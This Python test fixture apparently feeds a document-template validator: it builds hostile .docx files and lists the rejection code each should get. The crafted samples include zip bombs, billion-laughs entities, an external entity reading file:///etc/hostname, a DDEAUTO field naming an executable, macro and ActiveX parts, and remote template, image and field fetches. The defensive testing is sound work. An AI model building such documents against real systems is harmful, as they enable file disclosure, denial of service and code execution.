"""Templates and pictures that mean no good, each made here and as small as it can be."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

STANDARD = (Path(__file__).parents[2] / "resources/templates/standard.docx").read_bytes()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def parts(package: bytes = STANDARD) -> dict[str, bytes]:
    with ZipFile(BytesIO(package)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def packed(contents: Mapping[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        for name, content in contents.items():
            package.writestr(name, content)
    return out.getvalue()


def with_part(name: str, content: bytes, **replaced: tuple[str, str]) -> bytes:
    """The standard template with one part more, or another one."""
    return packed({**parts(), name: content})


def changed(name: str, old: str, new: str) -> bytes:
    """The standard template with one text in one part replaced."""
    contents = parts()
    assert old.encode() in contents[name]
    return packed({**contents, name: contents[name].replace(old.encode(), new.encode(), 1)})


def related(kind: str, target: str, mode: str = "", part: str = "document") -> bytes:
    """The standard template with one relation more."""
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    name = f"word/_rels/{part}.xml.rels"
    family = "http://schemas.openxmlformats.org/package/2006/relationships"
    contents = {name: f'<Relationships xmlns="{family}"></Relationships>'.encode(), **parts()}
    contents[name] = contents[name].replace(b"</Relationships>", f"{relation}</Relationships>".encode())
    return packed(contents)


def png(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG by its head: what it says of its size costs nothing to say."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = body or zlib.compress(b"".join(b"\0" + b"\x60" * width for _ in range(min(height, 100))))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int, height: int) -> bytes:
    """A JPEG's head, a comment before it, and its end."""
    frame = struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    return b"\xff\xd8\xff\xfe\0\x05abc\xff\xc0" + frame + b"\xff\xda\0\x02\0\0\xff\xd9"


def bomb() -> bytes:
    """Two hundred kilobytes that say that they are 200 MB."""
    return with_part("word/media/big.bin", bytes(200_000_000))


def lying_bomb() -> bytes:
    """One that says that it is small."""
    whole = with_part("word/media/big.bin", bytes(60_000_000))
    return whole.replace(struct.pack("<I", 60_000_000), struct.pack("<I", 1_000))


def laughs() -> bytes:
    """Entities that grow by ten at each step."""
    steps = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "ha"}">' for at in range(12))
    content = f'<?xml version="1.0"?><!DOCTYPE w:styles [{steps}]><w:styles xmlns:w="{W}">&e11;</w:styles>'
    return with_part("word/styles.xml", content.encode())


def outside_entity(encoding: str = "utf-8") -> bytes:
    content = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE w:hdr [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:hdr>'
    )
    return with_part("word/header1.xml", content.encode(encoding))


def disguised_entities() -> bytes:
    """Definitions in a part that looks like a picture and says elsewhere that it is a header."""
    contents = parts()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    more = f'<Override PartName="/word/media/a.png" ContentType="{kind}"/></Types>'
    contents["[Content_Types].xml"] = contents["[Content_Types].xml"].replace(b"</Types>", more.encode())
    contents["word/media/a.png"] = parts(outside_entity())["word/header1.xml"]
    return packed(contents)


def many_elements() -> bytes:
    """Six megabytes of the smallest elements: a tree of them takes a hundred times that."""
    body = f'<w:document xmlns:w="{W}"><w:body>{"<w:p/>" * 1_000_000}<w:sectPr/></w:body></w:document>'
    return with_part("word/document.xml", body.encode())


def deep_elements() -> bytes:
    body = f'<w:document xmlns:w="{W}"><w:body>{"<w:p>" * 50_000}{"</w:p>" * 50_000}</w:body></w:document>'
    return with_part("word/document.xml", body.encode())


def field(words: str, *, split: bool = False) -> bytes:
    """A footer with a field that fetches."""
    said = words if not split else f"{words[:4]}</w:instrText></w:r><w:r><w:instrText>{words[4:]}"
    run = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        f'{said}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return changed("word/footer1.xml", "</w:p>", f"{run}</w:p>")


def old_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)


EXTERNAL = ' TargetMode="External"'

#: What it is → how it is made, and the code that it is refused with.
TEMPLATES: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "no file at all": (lambda: b"", "template.not_word"),
    "no zip": (lambda: b"%PDF-1.7 " * 100, "template.not_word"),
    "a zip of something else": (lambda: packed({"a.txt": b"a"}), "template.not_word"),
    "an old document": (old_document, "template.locked"),
    "cut off": (lambda: STANDARD[: len(STANDARD) // 2], "template.damaged"),
    "cut off late": (lambda: STANDARD[:-30], "template.damaged"),
    "bytes changed": (lambda: STANDARD[:2_000] + b"\x55" * 40 + STANDARD[2_040:], "template.damaged"),
    "a bomb": (bomb, "template.too_large"),
    "a bomb that lies": (lying_bomb, "template.damaged"),
    "too large": (lambda: b"PK\x03\x04" + bytes(17_000_000), "template.too_large"),
    "many parts": (
        lambda: packed({**parts(), **{f"word/a{at}.xml": b"" for at in range(1_100)}}),
        "template.many_parts",
    ),
    "very many parts": (
        lambda: STANDARD[:-22] + b"PK\x01\x02" * 300_000 + STANDARD[-22:],
        "template.many_parts",
    ),
    "laughing entities": (laughs, "template.entities"),
    "an entity from outside": (outside_entity, "template.entities"),
    "an entity in two bytes a sign": (lambda: outside_entity("utf-16"), "template.entities"),
    "an entity in disguise": (disguised_entities, "template.entities"),
    "very many elements": (many_elements, "template.long"),
    "very deep elements": (deep_elements, "template.damaged"),
    "macros": (lambda: with_part("word/vbaProject.bin", b"x"), "template.macros"),
    "macros by its type": (
        lambda: changed(
            "[Content_Types].xml",
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "template.macros",
    ),
    "a control": (lambda: with_part("word/activeX/activeX1.bin", b"x"), "template.macros"),
    "an attached template": (
        lambda: related("attachedTemplate", "https://example.org/mal.dotm", EXTERNAL, "settings"),
        "template.external",
    ),
    "an attached template of its own": (
        lambda: related("attachedTemplate", "mal.dotm", part="settings"),
        "template.external",
    ),
    "a picture from elsewhere": (
        lambda: related("image", "//192.0.2.1/del/logo.png", EXTERNAL, "header1"),
        "template.external",
    ),
    "a text from elsewhere": (
        lambda: related("aFChunk", "https://example.org/tekst.html", ' TargetMode="external"'),
        "template.external",
    ),
    "a field that fetches": (
        lambda: field(' INCLUDEPICTURE "https://example.org/a.png"'),
        "template.external",
    ),
    "a field in two runs": (lambda: field("DDEAUTO c:\\\\a.exe", split=True), "template.external"),
    "a huge picture": (lambda: with_part("word/media/a.png", png(10_000, 10_000)), "template.picture_large"),
    "a huge photograph": (
        lambda: with_part("word/media/a.jpg", jpeg(20_000, 5_000)),
        "template.picture_large",
    ),
}
